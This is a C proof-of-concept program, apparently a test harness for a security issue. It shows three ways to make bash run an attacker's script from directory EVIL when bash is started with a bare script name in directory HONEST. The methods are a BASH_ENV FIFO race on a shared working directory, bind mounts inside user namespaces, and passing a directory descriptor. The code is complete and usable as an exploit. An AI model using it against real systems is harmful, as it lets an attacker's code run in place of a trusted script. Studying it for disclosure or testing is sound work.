/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * Lets bash run a script by its bare name in a working directory whose path is HONEST at the exec, but which leads to
 * another script: `folders TRICK HONEST EVIL SCRIPT [WORD ...]`. EVIL holds the attacker's own SCRIPT and, for
 * `unmounted`, a copy of the whole path HONEST.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define SHELL "/usr/bin/bash"

static const char *honest, *evil, *script;

static void die(const char *what)
{
	fprintf(stderr, "%s: %s\n", what, strerror(errno));
	exit(3);
}

static void run_script(char **words)
{
	words[-1] = SHELL;
	execv(SHELL, words - 1);
	die("exec");
}

static pid_t clone_with(int flags)
{
	return syscall(SYS_clone, flags | SIGCHLD, 0, 0, 0, 0);
}

/* The shell reads its start-up file before it opens the script. This one is a FIFO, at which it waits. */
static void make_start_up_file(char *path, size_t size)
{
	snprintf(path, size, "%s/shared.start", evil);
	if (mkfifo(path, 0600) || setenv("BASH_ENV", path, 1))
		die("mkfifo");
}

/* Parent and child share their working directory; the parent changes it after the exec, before the script is opened. */
static void share_the_folder(char **words)
{
	char start[4096];
	int status, end;

	make_start_up_file(start, sizeof(start));
	if (chdir(honest))
		die("chdir");
	if (!clone_with(CLONE_FS))
		run_script(words);
	end = open(start, O_WRONLY | O_CLOEXEC);
	if (end < 0 || chdir(evil) || close(end))
		die("open, chdir");
	wait(&status);
	exit(WEXITSTATUS(status));
}

static int open_mounted(void)
{
	char from[4096], to[4096];

	snprintf(from, sizeof(from), "%s/%s", evil, script);
	snprintf(to, sizeof(to), "%s/%s", honest, script);
	if (mount(from, to, NULL, MS_BIND, NULL))
		die("mount");
	return open(honest, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
}

static int open_unmounted(void)
{
	char path[4096];
	int folder;

	snprintf(path, sizeof(path), "%s%s", evil, honest);
	if (mount(evil, evil, NULL, MS_BIND, NULL))
		die("mount");
	folder = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (umount2(evil, MNT_DETACH))
		die("umount");
	return folder;
}

/* A child opens the folder in namespaces of its own. It shares its descriptors with us, and so we can enter it. */
static void take_a_folder(int (*open_folder)(void), char **words)
{
	int ends[2], folder;

	if (pipe2(ends, O_CLOEXEC))
		die("pipe");
	if (!clone_with(CLONE_FILES)) {
		if (unshare(CLONE_NEWUSER | CLONE_NEWNS) || prctl(PR_SET_PDEATHSIG, SIGKILL))
			die("unshare");
		folder = open_folder();
		if (write(ends[1], &folder, sizeof(folder)) == sizeof(folder))
			pause();
		exit(3);
	}
	if (read(ends[0], &folder, sizeof(folder)) != sizeof(folder) || fchdir(folder))
		die("fchdir");
	run_script(words);
}

int main(int argc, char **argv)
{
	if (argc < 5)
		return 2;
	honest = argv[2];
	evil = argv[3];
	script = argv[4];
	if (!strcmp(argv[1], "shared"))
		share_the_folder(argv + 4);
	else if (!strcmp(argv[1], "mounted"))
		take_a_folder(open_mounted, argv + 4);
	else if (!strcmp(argv[1], "unmounted"))
		take_a_folder(open_unmounted, argv + 4);
	return 2;
}
